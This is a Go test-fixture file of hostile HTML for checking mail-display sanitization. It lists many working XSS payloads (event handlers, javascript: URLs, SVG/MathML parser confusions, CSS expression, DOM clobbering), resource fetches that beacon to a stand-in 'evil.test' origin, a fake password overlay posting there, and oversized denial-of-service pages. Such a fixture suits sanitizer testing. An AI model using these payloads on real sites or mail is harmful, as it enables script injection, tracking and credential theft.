// Package hostile has HTML as attackers send it, for tests of code that shows mail. All its scripts call pwned(), and everything
// it tries to load comes from one origin, on which a test can listen.
package hostile

import "strings"

// Case is one page.
type Case struct{ Name, HTML string }

// Cases returns the pages; origin, such as "http://evil.test", is where they send their requests.
func Cases(origin string) []Case {
	all := append(scripts(), fetches()...)
	all = append(all, confusions()...)
	host := strings.TrimPrefix(strings.TrimPrefix(origin, "http:"), "//")
	for i := range all {
		all[i].HTML = strings.NewReplacer("EVIL", origin, "HOST", host).Replace(all[i].HTML)
	}
	return all
}

// Long pages cost time and memory.
func Long() []Case {
	return []Case{
		{"one word", "<p>" + strings.Repeat("x", 1<<20)},
		{"nested", strings.Repeat("<div>", 200_000) + "deep"},
		{"entities", strings.Repeat("&lt;&#x61;&amp;", 10<<20/15)},
		{"one style", `<p style="` + strings.Repeat("color:red;", 300_000) + `">x`},
		{"attributes", "<p " + strings.Repeat("a=b ", 250_000) + ">x"},
		{"tables", strings.Repeat("<table><tr><td>", 20_000)},
	}
}

func scripts() []Case {
	return []Case{
		{"script", `<script>pwned()</script><SCRIPT SRC=EVIL/a.js></SCRIPT><script/x>pwned()</script >`},
		{"script in script", `<scr<script>ipt>pwned()</scr</script>ipt>`},
		{"event handlers", `<img src=x onerror=pwned()><img/src=x/onerror=pwned()><p onclick="pwned()" onmouseover=pwned()>x</p><details open ontoggle=pwned()>x</details><div onanimationstart=pwned() style="animation:a 1s">`},
		{"handler after NUL", "<img src=x on\x00error=pwned()><img src=x \x00onerror=pwned()>"},
		{"handler by entity", `<img src=x &#111;nerror=pwned()><a href="#" o&#110;click=pwned()>x</a>`},
		{"handler in quotes", "<img alt=\"`\" src='x\" onerror=pwned() y='><img src=\"x` `<script>pwned()</script>\">"},
		{"autofocus", `<a autofocus tabindex=1 onfocus=pwned()>x</a><p contenteditable autofocus onfocus=pwned()>x`},
		{"popover", `<p popover id=p onbeforetoggle=pwned()>x</p><button popovertarget=p>y</button>`},
		{"javascript links", `<a href="javascript:pwned()">1</a><a href="JaVaScRiPt:pwned()">2</a><a href="java&#9;script:pwned()">3</a><a href="java&#10;script&colon;pwned()">4</a><a href=" &#1;javascript:pwned()">5</a><a href="vbscript:pwned()">6</a>`},
		{"data links", `<a href="data:text/html,<script>pwned()</script>">1</a><a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">2</a><a href="blob:EVIL/x">3</a><a href="filesystem:EVIL/x">4</a>`},
		{"our own links", `<a href="/api/v1/mailboxes/x@y/messages">1</a><a href="//HOST/">2</a><a href="\\HOST\x">3</a><a href="?x">4</a><a href="#x">5</a>`},
		{"image as script", `<img src="javascript:pwned()"><img src="data:text/html,<script>pwned()</script>"><img src="data:image/svg+xml,<svg onload=pwned() xmlns='http://www.w3.org/2000/svg'/>"><input type=image src="javascript:pwned()">`},
		{"svg", `<svg onload=pwned()><svg><script>pwned()</script></svg><svg><a xlink:href="javascript:pwned()"><text y=9>x</text></a></svg><svg/onload=pwned()>`},
		{"svg animation", `<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg><svg><set attributeName=href to=javascript:pwned()></svg><svg><animate onbegin=pwned() attributeName=x dur=1s onend=pwned() onrepeat=pwned()></svg>`},
		{"svg foreignObject", `<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe><body onload=pwned()></foreignObject></svg>`},
		{"math", `<math href="javascript:pwned()">x</math><math><maction actiontype="statusline#" xlink:href="javascript:pwned()">x</maction></math>`},
		{"frames", `<iframe srcdoc="<script>pwned()</script>"></iframe><iframe src="javascript:pwned()"></iframe><object data="javascript:pwned()"></object><embed src="javascript:pwned()"><frameset onload=pwned()><frame src="javascript:pwned()"></frameset>`},
		{"forms", `<form action="javascript:pwned()"><input type=submit autofocus></form><button formaction="javascript:pwned()">x</button><isindex action="javascript:pwned()" type=submit><input onfocus=pwned() autofocus>`},
		{"style as script", `<p style="width:expression(pwned())">x</p><p style="wid\74h:e\78pression(pwned())">y</p><p style="-moz-binding:url(EVIL/x.xml#a);behavior:url(EVIL/x.htc)">z</p><style>*{x:expression(pwned())}</style>`},
		{"base", `<base href="javascript:/a/-pwned()///////"><a href="../lol/safari.html">x</a>`},
		{"meta refresh", `<meta http-equiv=refresh content="0;url=javascript:pwned()"><meta http-equiv="Set-Cookie" content="sluice=x">`},
		{"reaching out", `<a href="http://x.example" target=_top>1</a><a href="http://x.example" target=_parent>2</a><form action="EVIL/f" target=_top><input name=q></form><script>parent.document.title="pwned";top.location="EVIL/top"</script>`},
		{"clobbering", `<form id=document><input name=cookie></form><a id=location href="EVIL/x"></a><img name=getElementById><a id=pwned></a><p class="row" id=list>x`},
	}
}

func fetches() []Case {
	return []Case{
		{"images", `<img src="EVIL/i1"><img srcset="EVIL/i2 1x" sizes=100vw><picture><source srcset="EVIL/i3"><img src=x></picture><img lowsrc="EVIL/i4" dynsrc="EVIL/i5" longdesc="EVIL/i6"><image src="EVIL/i7"><input type=image src="EVIL/i8">`},
		{"image URLs oddly written", "<img src='//HOST/j1'><img src='/\\HOST/j2'><img src='\thttp:\n//HOST/j3'><img src='HTTP:HOST/j4'><img src=http:&#x2f;/HOST/j5><img src=\"http:\\\\HOST\\j6\">"},
		{"backgrounds", `<body background="EVIL/b1"><table background="EVIL/b2"><tr><td background="EVIL/b3">x</table>`},
		{"style urls", `<p style="background:url(EVIL/s1)">1</p><p style="background-image:u\72l('EVIL/s2')">2</p><p style="list-style:url(EVIL/s3)">3</p><p style="background:image-set('EVIL/s4' 1x)">4</p><p style="cursor:url(EVIL/s5),auto">5</p><p style="content:url(EVIL/s6)">6</p><p style='--x:url("EVIL/s7");background:var(--x)'>7</p><p style="background:/**/url/**/(EVIL/s8)">8</p>`},
		{"style elements", `<style>@import "EVIL/t1";@import url(EVIL/t2);@font-face{font-family:f;src:url(EVIL/t3)}body{background:url(EVIL/t4);font-family:f}a[href^=h]{background:url(EVIL/t5)}</style><style><!--</style><img src="EVIL/t6">--></style>`},
		{"link hints", `<link rel=stylesheet href="EVIL/l1"><link rel=preconnect href="EVIL"><link rel=dns-prefetch href="http://hint.evil.test"><link rel=prefetch href="EVIL/l2"><link rel=preload as=image href="EVIL/l3"><link rel=modulepreload href="EVIL/l4"><link rel=icon href="EVIL/l5"><link rel=manifest href="EVIL/l6"><link rel=prerender href="EVIL/l7"><LINK/REL=preconnect/HREF=EVIL>`},
		{"link hints hidden", `<svg><style><link rel=preconnect href="EVIL"></style></svg><noscript><link rel=preconnect href="EVIL"></noscript><template><link rel=preconnect href="EVIL"></template><select><link rel=preconnect href="EVIL"></select><title><link rel=preconnect href="EVIL"></title>`},
		{"media", `<video src="EVIL/v1" poster="EVIL/v2" autoplay></video><audio src="EVIL/v3" autoplay></audio><video><source src="EVIL/v4"><track src="EVIL/v5" default></video>`},
		{"embedded", `<object data="EVIL/o1"></object><embed src="EVIL/o2"><applet code=x archive="EVIL/o3"></applet><iframe src="EVIL/o4"></iframe><portal src="EVIL/o5"></portal><fencedframe src="EVIL/o6"></fencedframe>`},
		{"svg images", `<svg><image href="EVIL/g1"/><image xlink:href="EVIL/g2"/><use href="EVIL/g3#a"/><filter id=f><feImage href="EVIL/g4"/></filter><rect filter="url(#f)" width=9 height=9 /><rect fill="url(EVIL/g5#a)" width=9 height=9 /></svg><math><mi href="EVIL/g6">x</mi></math>`},
		{"meta and base", `<meta http-equiv=refresh content="0;url=EVIL/m1"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv=x-dns-prefetch-control content=on><base href="EVIL/"><img src="m2"><a href="m3">x</a>`},
		{"form sent", `<form action="EVIL/f1" method=post><input name=q value=1><button autofocus>Go</button></form><form id=x action="EVIL/f2"></form><button form=x formaction="EVIL/f3">y</button>`},
		{"ping", `<a href="http://x.example" ping="EVIL/p1">x</a><map name=m><area href="EVIL/p2" ping="EVIL/p3"></map><img usemap="#m" src=x>`},
	}
}

func confusions() []Case {
	return []Case{
		{"math and mglyph", `<form><math><mtext></form><form><mglyph><style></math><img src=EVIL/x1 onerror=pwned()>`},
		{"math and annotation", `<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math><math><mi><malignmark><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=EVIL/x2 onerror=pwned()&gt;">`},
		{"svg and style", `<svg></p><style><a id="</style><img src=EVIL/x3 onerror=pwned()>"></svg><svg><desc><style><!--</style><a title="--><img src=EVIL/x4 onerror=pwned()>">`},
		{"noscript", `<noscript><p title="</noscript><img src=EVIL/x5 onerror=pwned()>"></noscript>`},
		{"select", `<select><style><option><img src=EVIL/x6 onerror=pwned()></style></select><select><iframe></select><img src=EVIL/x7 onerror=pwned()>`},
		{"raw text", `<title><p title="</title><img src=EVIL/x8 onerror=pwned()>"><textarea><p title="</textarea><img src=EVIL/x9 onerror=pwned()>"><xmp><p title="</xmp><img src=EVIL/y1 onerror=pwned()>"><noembed><p title="</noembed><img src=EVIL/y2 onerror=pwned()>"><plaintext><img src=EVIL/y3 onerror=pwned()>`},
		{"comments", `<!--><img src=EVIL/y4 onerror=pwned()>--><!-- --!><img src=EVIL/y5 onerror=pwned()><!--[if IE]><script>pwned()</script><![endif]--><!-><img src=EVIL/y6 onerror=pwned()>`},
		{"CDATA", `<![CDATA[><img src=EVIL/y7 onerror=pwned()>]]><svg><![CDATA[</svg><img src=EVIL/y8 onerror=pwned()>]]></svg><?xml-stylesheet href="EVIL/y9"?><?php <img src=x onerror=pwned()> ?>`},
		{"template", `<template><script>pwned()</script></template><template shadowrootmode=open><link rel=preconnect href="EVIL"><style>@import "EVIL/z1"</style></template>`},
		{"table foster parents", `<table><math><select><mglyph><style></table><img src=EVIL/z2 onerror=pwned()></style></select></math></table><table><td><a href=x><table><a href="javascript:pwned()">x`},
		{"open at the end", `<p>text<img src="EVIL/z3" onerror="pwned()"`},
		{"tag in a tag", `<<img src=EVIL/z4 onerror=pwned()>><a<b href="javascript:pwned()">x<//a><p<p onclick=pwned()>`},
		{"UTF-7", `+ADw-script+AD4-pwned()+ADw-/script+AD4- <meta charset=utf-7>`},
		{"strange spaces", "<img\u00a0src=x\u2028onerror=pwned()><img\x0csrc=EVIL/z5\x0conerror=pwned()><ſcript>pwned()</ſcript><İmg src=x onerror=pwned()>"},
		{"bidi", "<a href=\"http://x.example/\u202egnp.exe\">\u202eelpmaxe\u202c</a><p>\u2066\u202e\u200b\u2069"},
		{"overlay", `<div style="position:fixed;inset:0;z-index:9999;background:white"><form action="EVIL/z6">Your password: <input type=password></form></div><dialog open style="position:absolute;top:0">x</dialog><marquee onstart=pwned()>x</marquee>`},
		{"style breakout", `<p style="color:red</style><img src=EVIL/z7 onerror=pwned()>">x</p><p style='font-family:"</p><img src=EVIL/z8 onerror=pwned()>"'>y</p><p style="color:red;/*">*/<p style="*/background:url(EVIL/z9)">`},
		{"quotes in an attribute", `<a href='http://x.example/"onmouseover="pwned()'>x</a><img alt='"><script>pwned()</script>' src=x><p title="&quot;><img src=x onerror=pwned()>">`},
	}
}
